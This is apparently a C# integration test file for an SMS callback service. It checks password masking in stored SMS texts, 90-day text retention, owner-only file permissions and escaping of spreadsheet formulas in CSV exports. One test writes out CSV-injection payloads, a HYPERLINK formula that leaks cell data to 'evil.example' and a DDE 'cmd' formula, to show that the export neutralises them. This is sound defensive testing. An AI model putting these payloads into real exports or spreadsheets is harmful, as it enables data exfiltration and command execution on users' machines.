using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Hangfire;
using Microsoft.Data.Sqlite;
using Microsoft.Extensions.DependencyInjection;
using SmsCallback.Api.IntegrationTests.Infrastructure;
using static SmsCallback.Api.IntegrationTests.Infrastructure.SmsCallbackApp;

namespace SmsCallback.Api.IntegrationTests;

/// <summary>Issue 12, items 6 and 8: passwords sent by SMS are masked before they are stored, old SMS texts are purged, the data files are
/// the owner's only, and CSV exports cannot carry spreadsheet formulas yet read back unchanged.</summary>
public sealed class DataHygieneTests : IDisposable
{
    private readonly SmsCallbackApp _app = new();

    public void Dispose() => _app.Dispose();

    private static async Task<JsonElement[]> InboxAsync(HttpClient admin) => await GetArrayAsync(admin, "/api/admin/sms/inbox");

    private async Task<JsonElement> ProcessedAsync(HttpClient admin, string messageId) =>
        (await EventuallyAsync(() => InboxAsync(admin),
            i => i.Any(m => m.GetProperty("messageId").GetString() == messageId && m.GetProperty("status").GetString() == "Processed"), $"{messageId} processed"))
        .First(m => m.GetProperty("messageId").GetString() == messageId);

    [Fact]
    public async Task A_password_in_an_sms_is_stored_masked_and_the_command_still_runs_with_the_real_one()
    {
        var admin = await _app.AdminClientAsync();
        await _app.CreateAccountAsync(admin, "frank", "frankpass1");

        Assert.Equal(HttpStatusCode.OK, (await _app.PostSmsAsync("pw-1", "+48600316058", "U.frank P.frankpass1 I.")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await _app.PostSmsAsync("pw-2", "+48600316059", "U.frank p.wrongpass I.")).StatusCode);

        var right = await ProcessedAsync(admin, "pw-1");
        Assert.Equal("U.frank P.*** I.", right.GetProperty("text").GetString());
        Assert.Equal("Status requested", right.GetProperty("outcome").GetString()); // authenticated with the real password
        var wrong = await ProcessedAsync(admin, "pw-2");
        Assert.Equal("U.frank p.*** I.", wrong.GetProperty("text").GetString());
        Assert.Equal("Login failed", wrong.GetProperty("outcome").GetString());
        await EventuallyAsync(() => GetArrayAsync(admin, "/api/admin/sms/outbox"),
            o => o.Any(x => x.GetProperty("kind").GetString() == "Status" && x.GetProperty("to").GetString() == "+48600316058"), "the status SMS");

        // Not in any file of the installation either (the database, its write-ahead log, the job storage).
        SqliteConnection.ClearAllPools();
        foreach (var file in Directory.EnumerateFiles(_app.DataDirectory, "*", SearchOption.AllDirectories))
        {
            var bytes = await File.ReadAllBytesAsync(file);
            Assert.False(Contains(bytes, "frankpass1") || Contains(bytes, "wrongpass"), $"{file} holds the password");
        }
    }

    private static bool Contains(byte[] haystack, string needle) =>
        haystack.AsSpan().IndexOf(Encoding.UTF8.GetBytes(needle)) >= 0 || haystack.AsSpan().IndexOf(Encoding.Unicode.GetBytes(needle)) >= 0;

    [Fact]
    public async Task The_retention_job_blanks_inbox_and_outbox_texts_older_than_90_days_and_keeps_newer_ones()
    {
        var admin = await _app.AdminClientAsync();
        Assert.Equal(HttpStatusCode.OK, (await _app.PostSmsAsync("old-1", "+48600316058", "HELP")).StatusCode);
        await ProcessedAsync(admin, "old-1");
        await EventuallyAsync(() => GetArrayAsync(admin, "/api/admin/sms/outbox"), o => o.Length == 1 && o[0].GetProperty("status").GetString() == "Sent",
            "the reply sent");

        _app.Clock.Advance(TimeSpan.FromDays(91));
        admin = await _app.AdminClientAsync(); // the first token expired with the clock
        Assert.Equal(HttpStatusCode.OK, (await _app.PostSmsAsync("new-1", "+48600316059", "HELP")).StatusCode);
        await ProcessedAsync(admin, "new-1");
        await EventuallyAsync(() => GetArrayAsync(admin, "/api/admin/sms/outbox"), o => o.Length == 2, "the second reply");

        _app.Services.GetRequiredService<IRecurringJobManager>().Trigger("sms-text-retention");

        var inbox = await EventuallyAsync(() => InboxAsync(admin),
            i => i.Single(m => m.GetProperty("messageId").GetString() == "old-1").GetProperty("text").GetString() == "", "the old text purged");
        Assert.Equal("HELP", inbox.Single(m => m.GetProperty("messageId").GetString() == "new-1").GetProperty("text").GetString());
        var outbox = await EventuallyAsync(() => GetArrayAsync(admin, "/api/admin/sms/outbox"),
            o => o.Count(x => x.GetProperty("text").GetString() == "") == 1, "the old reply's text purged");
        Assert.NotEqual("", outbox[0].GetProperty("text").GetString()); // newest first: the new reply keeps its text
    }

    [UnixFact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public async Task The_database_job_storage_secrets_and_key_files_are_the_owners_only()
    {
        var admin = await _app.AdminClientAsync();
        Assert.Equal(HttpStatusCode.Created, (await admin.PostAsJsonAsync("/api/admin/access-numbers",
            new { number = "48500100200", channel = "plivo", plivo = new { authId = "MA", authToken = "t" } })).StatusCode); // a Data Protection key
        Assert.Equal(HttpStatusCode.OK, (await _app.PostSmsAsync("m-1", "+48600316058", "HELP")).StatusCode);
        await ProcessedAsync(admin, "m-1");

        var files = Directory.EnumerateFiles(_app.DataDirectory, "*", SearchOption.AllDirectories).ToList();
        Assert.Contains(files, f => f.EndsWith("app.db", StringComparison.Ordinal));
        Assert.Contains(files, f => f.EndsWith("jobs.db", StringComparison.Ordinal));
        Assert.Contains(files, f => f.EndsWith(".xml", StringComparison.Ordinal));
        Assert.All(files, f => Assert.True(File.GetUnixFileMode(f) == (UnixFileMode.UserRead | UnixFileMode.UserWrite),
            $"{Path.GetFileName(f)} is {File.GetUnixFileMode(f)}"));
        Assert.All(Directory.EnumerateDirectories(_app.DataDirectory, "*", SearchOption.AllDirectories), d => Assert.Equal(
            UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(d)));
    }

    [Fact]
    public async Task Formulas_in_tariff_descriptions_are_escaped_in_the_export_and_the_export_imports_back_unchanged()
    {
        var admin = await _app.AdminClientAsync();
        string[] descriptions = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "'quoted", "Poland"]; // (descriptions are trimmed: no leading tab)
        var rates = descriptions.Select((d, i) => new
        {
            prefix = (48 + i).ToString(), description = d, pricePerMinute = 0.1m, connectionFee = 0m, minimumSeconds = 0, incrementSeconds = 1,
        });
        var created = await admin.PostAsJsonAsync("/api/admin/tariffs", new { name = "Formulas", currency = "EUR", rates });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var id = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();

        var csv = await admin.GetStringAsync($"/api/admin/tariffs/{id}/rates/export");
        var cells = Cells(csv).ToList();
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0]) && !decimal.TryParse(c, out _));
        Assert.Contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", cells);
        Assert.Contains("Poland", cells);

        var copy = await admin.PostAsJsonAsync("/api/admin/tariffs", new { name = "Copy", currency = "EUR" });
        var copyId = (await copy.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
        Assert.Equal(HttpStatusCode.OK, (await admin.PostAsync($"/api/admin/tariffs/{copyId}/rates/import",
            new StringContent(csv, Encoding.UTF8, "text/csv"))).StatusCode);
        var imported = (await admin.GetFromJsonAsync<JsonElement>($"/api/admin/tariffs/{copyId}")).GetProperty("rates").EnumerateArray()
            .Select(r => r.GetProperty("description").GetString()).ToArray();
        Assert.Equal(descriptions, imported);
        Assert.Equal(csv, await admin.GetStringAsync($"/api/admin/tariffs/{copyId}/rates/export"));
    }

    [Fact]
    public async Task A_lot_login_starting_with_a_dash_is_escaped_in_the_lot_export()
    {
        var admin = await _app.AdminClientAsync();
        var response = await admin.PostAsJsonAsync("/api/admin/lots",
            new { count = 3, loginPrefix = "-x", loginLength = 8, passwordLength = 8, passwordAlphabet = "digits", initialBalance = 1m, tariffId = (Guid?)null });
        Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
        var id = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
        await EventuallyAsync(() => admin.GetFromJsonAsync<JsonElement>($"/api/admin/lots/{id}"),
            l => l.GetProperty("state").GetString() == "Completed", "the lot generated", 120_000);

        var lines = (await admin.GetStringAsync($"/api/admin/lots/{id}/export")).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(4, lines.Length);
        Assert.All(lines.Skip(1), l => Assert.StartsWith("'-x", l));
    }

    [Fact]
    public async Task A_login_starting_with_an_at_sign_is_escaped_in_the_admin_call_export_and_numbers_stay_readable()
    {
        var admin = await _app.AdminClientAsync();
        await DisableIvrAsync(admin);
        await _app.CreateAccountAsync(admin, "@frank", "frankpass1", "+48600316058");
        Assert.Equal(HttpStatusCode.OK, (await _app.PostSmsAsync("call-1", "+48600316058", "D.48774417880")).StatusCode);

        var csv = await EventuallyAsync(() => admin.GetStringAsync("/api/admin/calls/export"), c => c.Contains("'@frank", StringComparison.Ordinal)
            && c.Contains("48774417880", StringComparison.Ordinal), "both legs of the call in the export");
        Assert.DoesNotContain(Cells(csv), c => c == "@frank");
        Assert.Contains("+48774417880", Cells(csv)); // validated E.164 numbers are exempt: they are plain numbers, never formulas
    }

    /// <summary>The cells of an RFC 4180 text (quoted cells unquoted).</summary>
    private static IEnumerable<string> Cells(string csv)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c is ',' or '\n')
            {
                yield return cell.ToString().TrimEnd('\r');
                cell.Clear();
            }
            else cell.Append(c);
        }
        if (cell.Length > 0) yield return cell.ToString();
    }
}

/// <summary>A fact that only means something where files have Unix modes.</summary>
public sealed class UnixFactAttribute : FactAttribute
{
    public UnixFactAttribute()
    {
        if (OperatingSystem.IsWindows()) Skip = "Unix file modes only.";
    }
}
